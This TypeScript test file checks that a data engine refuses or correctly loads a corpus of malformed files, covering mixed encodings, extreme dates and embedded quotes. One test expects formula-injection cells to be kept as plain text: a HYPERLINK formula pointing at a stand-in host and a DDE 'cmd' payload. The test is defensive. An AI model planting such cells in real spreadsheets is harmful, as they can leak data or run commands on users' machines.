/**
 * Issue 8, point 3: every file of the hostile corpus (tests/fixtures/make-hostile.ts) either loads
 * right or fails with a message naming the file and the problem; a good table loaded first stays
 * untouched and the engine answers afterwards.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Engine } from '../../src/lib/engine/engine';
import { EngineError } from '../../src/lib/engine/errors';
import { describeError } from '../../src/lib/ui/describe-error';
import { HOSTILE, HOSTILE_DIR, type HostileFile } from '../fixtures/make-hostile';
import { file, openTestEngine } from './helpers/db';

/** Error codes a corpus file may end with; INTERNAL or SQL codes mean a loader let something slip. */
const FILE_CODES = ['FILE_FORMAT', 'FILE_EMPTY', 'FILE_TOO_LARGE', 'UNSUPPORTED'];

async function check(engine: Engine, f: HostileFile, bytes: Uint8Array): Promise<void> {
  const outcome = await engine.load(file(f.name, bytes)).then(
    (info) => ({ info }),
    (error: unknown) => ({ error })
  );
  if (f.expect.kind === 'error') {
    expect('error' in outcome, `${f.name} should be refused`).toBe(true);
    const error = (outcome as { error: unknown }).error;
    expect(error).toBeInstanceOf(EngineError);
    const view = describeError(error);
    expect(view.file).toBe(f.name);
    expect(FILE_CODES).toContain(view.code);
    expect(view.message).toMatch(f.expect.message);
    expect(view.message).not.toMatch(/^\{"exception|Maximum call stack|file is in use|undefined/);
  } else {
    if ('error' in outcome) throw outcome.error;
    const { info } = outcome;
    await engine.dropTable(info.name);
    expect(info.rows).toBe(f.expect.rows);
    expect(info.columns).toHaveLength(f.expect.columns);
    if (f.expect.names) expect(info.columns.map((c) => c.name)).toEqual(f.expect.names);
    for (const [name, type] of Object.entries(f.expect.types ?? {})) expect(info.columns.find((c) => c.name === name)?.type, name).toBe(type);
    if (f.expect.warning) expect(info.warnings.map((w) => w.text).join('\n')).toMatch(f.expect.warning);
  }
  const [keep] = await engine.db.rows<{ n: number; s: number }>('SELECT count(*) AS n, sum(id) AS s FROM keeper');
  expect(keep).toEqual({ n: 3, s: 6 });
  expect(engine.tables().map((t) => t.name)).toEqual(['keeper']);
}

describe('the hostile corpus through the engine', () => {
  let engine: Engine;
  beforeAll(async () => {
    engine = await openTestEngine();
    await engine.load(file('keeper.csv', 'id,name\n1,a\n2,b\n3,c\n'));
  });

  it('has at least 40 files and keeps the small ones as the generator makes them', async () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(40);
    expect(new Set(HOSTILE.map((f) => f.name)).size).toBe(HOSTILE.length);
    for (const f of HOSTILE.filter((h) => !h.big)) {
      expect(Buffer.from(readFileSync(path.join(HOSTILE_DIR, f.name))).equals(Buffer.from(await f.make())), f.name).toBe(true);
    }
  });

  for (const f of HOSTILE.filter((h) => !h.big)) {
    it(`${f.name} (${f.about}): ${f.expect.kind === 'error' ? 'refused with a clear message' : 'loads right'}`, async () => {
      await check(engine, f, new Uint8Array(readFileSync(path.join(HOSTILE_DIR, f.name))));
    });
  }

  for (const f of HOSTILE.filter((h) => h.big)) {
    it(`${f.name} (${f.about}, made at test time): ${f.expect.kind === 'error' ? 'refused with a clear message' : 'loads right'}`, { timeout: 240_000 }, async () => {
      await check(engine, f, await f.make());
    });
  }

  it('keeps the engine answering after the whole corpus', async () => {
    expect(await engine.db.rows('SELECT 42 AS answer')).toEqual([{ answer: 42 }]);
  });
});

describe('hostile values survive loading', () => {
  let engine: Engine;
  beforeAll(async () => {
    engine = await openTestEngine();
  });

  it('keeps formula-looking cells as text, byte for byte', async () => {
    const info = await engine.load(file('formulas.csv', readFileSync(path.join(HOSTILE_DIR, 'formulas.csv'))));
    const rows = await engine.db.rows(`SELECT link, cmd, calc, "sum", tab FROM "${info.name}" ORDER BY id`);
    expect(rows[0]).toEqual({ link: '=HYPERLINK("https://evil.invalid/?x=","click")', cmd: "+cmd|' /C calc'!A0", calc: '-1+1', sum: '@SUM(A1:A2)', tab: '\tx' });
  });

  it('reads each line of a mixed-encoding file in its own encoding', async () => {
    const info = await engine.load(file('mixed_encoding.csv', readFileSync(path.join(HOSTILE_DIR, 'mixed_encoding.csv'))));
    const rows = await engine.db.rows<{ name: string; city: string }>(`SELECT name, city FROM "${info.name}" ORDER BY amount`);
    expect(rows).toEqual([
      { name: 'Müller', city: 'München' },
      { name: 'Schäfer', city: 'Köln' },
      { name: 'Weiß', city: 'Straße €' },
      { name: 'Öztürk', city: 'Düsseldorf' }
    ]);
    expect(info.warnings.map((w) => w.text)).toEqual(['Mixed encodings: 2 lines are not valid UTF-8 and were read as Windows-1252; the rest is UTF-8.']);
  });

  it('keeps dates of year 1 and 9999', async () => {
    const info = await engine.load(file('dates_extreme.csv', readFileSync(path.join(HOSTILE_DIR, 'dates_extreme.csv'))));
    const rows = await engine.db.rows(`SELECT CAST(day AS VARCHAR) AS day, CAST("at" AS VARCHAR) AS "at" FROM "${info.name}" ORDER BY id`);
    expect(rows).toEqual([
      { day: '0001-01-01', at: '0001-01-01 00:00:00' },
      { day: '9999-12-31', at: '9999-12-31 23:59:59' },
      { day: '2024-02-29', at: '2024-02-29 12:00:00' }
    ]);
  });

  it('keeps quoted quotes, delimiters and line breaks inside fields', async () => {
    const info = await engine.load(file('quotes_inside.csv', readFileSync(path.join(HOSTILE_DIR, 'quotes_inside.csv'))));
    const rows = await engine.db.rows<{ text: string }>(`SELECT text FROM "${info.name}" ORDER BY id`);
    expect(rows.map((r) => r.text)).toEqual(['say "hi", then\nleave', 'a,b;c', '"quoted"']);
  });
});
